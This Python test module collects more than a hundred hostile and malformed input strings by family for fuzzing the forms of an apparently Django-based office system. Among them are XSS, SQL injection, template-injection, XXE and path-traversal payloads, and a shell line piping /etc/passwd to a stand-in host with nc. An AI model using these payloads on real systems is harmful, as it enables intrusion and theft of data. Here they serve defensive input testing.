"""More than a hundred strings that broke some office system, by family."""

from __future__ import annotations

import unicodedata

Text = str | bytes  # bytes are posted as they stand: what no UTF-8 text can hold
FAMILIES: dict[str, tuple[Text, ...]] = {
    "script": (
        "<script>alert(1)</script>",
        "<ScRiPt >alert(1)</sCrIpT>",
        "<script/src=data:,alert(1)>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "＜script＞alert(1)＜/script＞",
    ),
    "markup": (
        '"><img src=x onerror=alert(1)>',
        "' onmouseover='alert(1)",
        '" onfocus="alert(1)" autofocus="',
        "` onclick=alert(1) `",
        "<svg onload=alert(1)>",
        "<math><mtext></table><mglyph><style></style><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<form action=javascript:alert(1)><button>x",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<object data=javascript:alert(1)>",
        "<style>@import'//evil.example/x.css';</style>",
        "javascript:alert(1)",
    ),
    "template": (
        "{{70000007*7}}",
        "{{70000007|add:1}}{% load static %}{% debug %}",
        "{% include '/etc/passwd' %}",
        "${70000007*7}#{70000007*7}<%= 70000007*7 %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
    ),
    "format": (
        "%(password)s %s %n %x",
        "{0.__class__.__init__.__globals__}",
        "{} {x} {0!r:>{1}}",
        "%",
        "%%%s%d",
        "$(reboot)`reboot`; cat /etc/passwd | nc evil.example 1",
        "() { :;}; echo x",
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "!!python/object/apply:os.system ['id']",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "<?php system('id'); ?>",
    ),
    "query": (
        "'",
        '"',
        "'; DROP TABLE documents_document; --",
        "' OR '1'='1",
        "1; SELECT pg_sleep(9)",
        "' UNION SELECT password FROM organisation_person --",
        "%' AND 1=1 AND '%'='",
        "_",
        "\\",
        "title__startswith",
    ),
    "place": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2fetc%2fpasswd",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "//evil.example/x",
        "\r\nSet-Cookie: a=b",
        "\r\nBcc: evil@example.com\r\n\r\nx",
        "CON",
        ".",
    ),
    "nul": ("标题\x00后面", "\x00", "a\x00", "\x00\x00\x00b", "/etc/passwd\x00.pdf"),
    "control": (
        "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1b[31m\x7f",
        "\x80\x85\x9f\xa0\xad",
        "\u2028\u2029",
        "\ufffe\uffff\ufdd0",
        "\ue000\U000f0000",
        "　\t　",
        " ",
        "\n",
    ),
    "unseen": (
        "通知\u202egpj.exe",
        "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069",
        "\u200b\u200c\u200d\u2060\ufeff",
        "\u1680\u2000\u3000",
        "\u3164\u115f\u00ad",
    ),
    "letters": (
        "a" + "\u0300" * 500,
        "ก" + "็" * 300,
        "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳",
        "𠮷𠀀\U0003134a",
        "ﷺ" * 50,
        "İıßſǅ",
        "①②③Ⅳ",
        unicodedata.normalize("NFD", "é" * 20),
        "🀄" * 200,
    ),
    "broken": (b"\xed\xa0\x80half", b"\xff\xfe\x00", b"\xc0\xafover", b"\xf4\x90\x80\x80", b"\x80"),
    "number": (
        "9" * 400,
        "9" * 5_000,  # longer than Python turns into an int
        "-1",
        "0",
        "1e309",
        "NaN",
        "+inf",
        "-Infinity",
        "0x41",
        "1_000",
        "٣",
        "１２３４",
        "1" + "0" * 30,
        "9223372036854775808",
        "2147483648",
        "32768",
    ),
    "date": (
        "0000-00-00",
        "0001-01-01",
        "9999-12-31",
        "10000-01-01",
        "2026-02-30",
        "2026-13-01",
        "-1-01-01",
        "0001-01-01T00:00",
        "9999-12-31T23:59",
        "9999-12-31T23:59:59+14:00",
        "0001-01-01T00:00:00-14:00",
        "2026-06-03T25:61",
        "2026-W23",
        "infinity",
        "now",
        "二〇二六年六月三日",
    ),
    "data": (
        "[]",
        "{}",
        '["a", {"b": null}]',
        '{"$gt": ""}',
        "true",
        "null",
        "None",
        "undefined",
        "on",
        "",
    ),
    "length": (
        "长" * 100_000,
        "行\n" * 10_000,
        " " * 5_000,
        "a" * 201,
        "字" * 4_001,
        "，" * 3_000,
        "｜" * 60,
    ),
}
EVERY: tuple[Text, ...] = tuple(text for family in FAMILIES.values() for text in family)
MARKUP = (*FAMILIES["script"], *FAMILIES["markup"])
# What an evaluated template or a read file would show; no page of ours shows these by itself, nor
# does the key of a row grow to such numbers.
EVALUATED = (
    "490000049",
    "70000008",
    "root:x:0",
    "<Subclasses",
    "DROP TABLE documents_document; --</b>",
)
# Values of the right shape that no office would type: they pass the field and reach the services.
DAYS = ("0001-01-01", "9999-12-31", "1900-01-01", "2262-04-12", "2026-06-03")
INSTANTS = ("0001-01-01T00:00", "9999-12-31T23:59", "1900-01-01T00:00", "2026-06-03T00:00")
NUMBERS = ("0", "-1", "32767", "2147483647", "9223372036854775807", "1" + "0" * 30, "9" * 5_000)
KEYS = ("0", "-1", "9223372036854775808", "1" + "0" * 30, "9" * 5_000, "x", "\x00", "[1]")


# What may stand together in one field, so that few posts show a field every family.
GROUPS = (
    ("script", "template", "unseen"),
    ("markup", "format", "query"),
    ("place", "control", "letters"),
    *((name,) for name in ("nul", "broken", "number", "date", "data", "length")),
)


def blend(group: tuple[str, ...], pick: int) -> Text:
    """Return one member of each family of a group, in one text."""
    members = [FAMILIES[name][(pick + n) % len(FAMILIES[name])] for n, name in enumerate(group)]
    return members[0] if len(members) == 1 else " ".join(str(text) for text in members)


# What a form of free text takes, so that it comes to the services and to the pages behind.
MILD = (*GROUPS[:3], ("broken",))


def round_of(
    number: int, fields: list[str], groups: tuple[tuple[str, ...], ...] = GROUPS
) -> dict[str, Text]:
    """Return a text for each field: over as many rounds as there are groups, every family.

    Which member of its family a field gets differs from round to round and field to field.
    """
    return {
        name: blend(groups[(number + place) % len(groups)], number * 7 + place * 3 + len(name))
        for place, name in enumerate(fields)
    }
